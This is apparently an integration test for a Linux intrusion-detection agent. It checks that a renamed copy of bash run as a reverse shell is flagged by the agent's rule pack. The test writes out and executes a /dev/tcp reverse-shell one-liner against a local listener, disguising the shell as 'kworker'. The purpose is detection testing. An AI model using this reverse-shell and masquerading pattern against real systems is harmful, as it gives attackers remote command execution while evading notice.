/**
 * A copy of bash under another name, outside the world-writable folders, against the real kernel
 * (root): the first exec of the new file, with its standard input and output on a TCP socket,
 * carries hades.process.copy_of naming the installed bash, and the default rule pack reports it as
 * a reverse shell (which, without the field, it does not). The command typed into it (`id`, sent
 * through the socket) names the copy in its ancestors (hades.ancestors[0].copy_of), and the pack
 * reports it as a command run from a reverse shell (which, without the field, it does not).
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { KernelEvents } from '../../src/agent/kernel-events.js';
import { AgentConfigSchema, parseConfig } from '../../src/common/config/index.js';
import { checkEvent, type HadesEvent } from '../../src/common/events/index.js';
import { loadRules } from '../../src/rules/index.js';
import { readDefaultPack } from '../../src/runtime/rule-pack.js';

const isRoot = process.getuid?.() === 0;
const dir = mkdtempSync(path.join(tmpdir(), 'hades-copied-shell-'));
// The copy lives outside the world-writable folders (/tmp among them), which the pack takes for
// a shell's place whatever the file: /var/lib, where root's programs keep their state.
const home = isRoot ? mkdtempSync('/var/lib/hades-copied-shell-') : dir;
after(() => {
  rmSync(dir, { recursive: true, force: true });
  rmSync(home, { recursive: true, force: true });
});

type AnyEvent = Record<string, any>;

describe('a copy of bash under another name (root, real driver)', { skip: !isRoot && 'kernel events need root' }, () => {
  it('is named a copy of bash on its first exec and in the ancestors of what it runs, and raises reverse_shell_socket_stdio and reverse_shell_command', async () => {
    // A folder of its own, 0755 and owned by root: no world-writable folder on the copy's path.
    const folder = path.join(home, '.x');
    mkdirSync(folder, { recursive: true, mode: 0o755 });
    chmodSync(folder, 0o755);
    const copy = path.join(folder, 'kworker');
    const bash = realpathSync('/bin/bash');
    copyFileSync(bash, copy);
    chmodSync(copy, 0o755);

    const sockets = new Set<Socket>();
    const listener = createServer((socket) => {
      sockets.add(socket);
      socket.on('error', () => undefined);
      // One command typed into the shell, then the end of the session.
      socket.end('id\nexit\n');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as AddressInfo).port;

    const parsed = parseConfig('', AgentConfigSchema);
    assert.ok(parsed.ok);
    const events: HadesEvent[] = [];
    const source = new KernelEvents({ config: parsed.config, agentVersion: 'test', emit: (e) => events.push(e) > 0, hashCacheDir: mkdtempSync(path.join(dir, 'data-')), actions: new Set(['exec']) });
    await source.start();
    try {
      // bash opens the socket and runs the copy on it: `kworker -i <>/dev/tcp/HOST/PORT >&0 2>&0`.
      await new Promise<void>((resolve, reject) => {
        const child = spawn(bash, ['-c', `${copy} -i <>/dev/tcp/127.0.0.1/${port} >&0 2>&0`], { stdio: 'ignore', timeout: 10_000 });
        child.on('error', reject);
        child.on('close', () => resolve());
      });
      const deadline = Date.now() + 5000;
      const typed = () => events.some((e) => (e as AnyEvent)['process']?.name === 'id' && (e as AnyEvent)['process']?.parent?.executable === copy);
      while (!(events.some((e) => (e as AnyEvent)['process']?.executable === copy) && typed()) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
    } finally {
      await source.stop();
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => listener.close(resolve));
    }
    const execs = events.filter((e) => e.event.action === 'exec' && (e as AnyEvent)['process']?.executable === copy) as AnyEvent[];
    assert.equal(execs.length, 1, 'one exec of the copy');
    const exec = JSON.parse(JSON.stringify(execs[0])) as AnyEvent;
    assert.deepEqual(checkEvent(exec).ok ? [] : checkEvent(exec), []);
    assert.equal(exec['process'].name, 'kworker');
    assert.equal(exec['hades'].process.stdio.stdin.type, 'socket');
    assert.deepEqual(exec['hades'].process.copy_of, { path: bash, name: path.basename(bash) }, `hash_status ${exec['hades'].process.hash_status}`);

    // The rule pack: the copy is a shell reading a socket.
    const { ruleSet } = loadRules(await readDefaultPack(), { samples: false });
    const fired = ruleSet.match(exec).map((m) => m.rule.id);
    assert.ok(fired.includes('reverse_shell_socket_stdio'), fired.join(', '));
    const without = structuredClone(exec);
    delete without['hades'].process.copy_of;
    assert.equal(ruleSet.match(without).some((m) => m.rule.id === 'reverse_shell_socket_stdio'), false, 'the field is what tells');
    // The installed bash that ran the copy is not a copy of itself.
    const launcher = events.find((e) => (e as AnyEvent)['process']?.executable === bash) as AnyEvent | undefined;
    assert.equal(launcher?.['hades'].process.copy_of, undefined);

    // `id`, typed into the copy through the socket: its parent's ancestor entry names the copy.
    const child = events.find((e) => (e as AnyEvent)['process']?.name === 'id' && (e as AnyEvent)['process']?.parent?.executable === copy);
    assert.ok(child, 'the exec of the command typed into the copy');
    const command = JSON.parse(JSON.stringify(child)) as AnyEvent;
    assert.deepEqual(checkEvent(command).ok ? [] : checkEvent(command), []);
    assert.equal(command['hades'].process.copy_of, undefined, 'id itself is no copy');
    assert.equal(command['hades'].process.stdio.stdin.type, 'socket');
    const parent = command['hades'].ancestors[0];
    assert.equal(parent.pid, exec['process'].pid);
    assert.equal(parent.entity_id, exec['process'].entity_id);
    assert.equal(parent.executable, copy);
    assert.deepEqual(parent.copy_of, { path: bash, name: path.basename(bash) });
    // The installed bash that started the copy is named as itself, not as a copy.
    assert.equal(command['hades'].ancestors[1]?.executable, bash);
    assert.equal(command['hades'].ancestors[1]?.copy_of, undefined);
    const firedByCommand = ruleSet.match(command).map((m) => m.rule.id);
    assert.ok(firedByCommand.includes('reverse_shell_command'), firedByCommand.join(', '));
    const commandWithout = structuredClone(command);
    delete commandWithout['hades'].ancestors[0].copy_of;
    assert.equal(ruleSet.match(commandWithout).some((m) => m.rule.id === 'reverse_shell_command'), false, "the parent's copy_of is what tells");
    // Without it (a copy changed by one byte, a shell built from source: nothing names the
    // shell), the command typed through the socket by a program that is no known shell is
    // reported all the same; with it, the shell's own rules do and this one stays quiet.
    assert.ok(ruleSet.match(commandWithout).some((m) => m.rule.id === 'reconnaissance_through_socket_stdio'), ruleSet.match(commandWithout).map((m) => m.rule.id).join(', '));
    assert.equal(firedByCommand.includes('reconnaissance_through_socket_stdio'), false);
  });
});
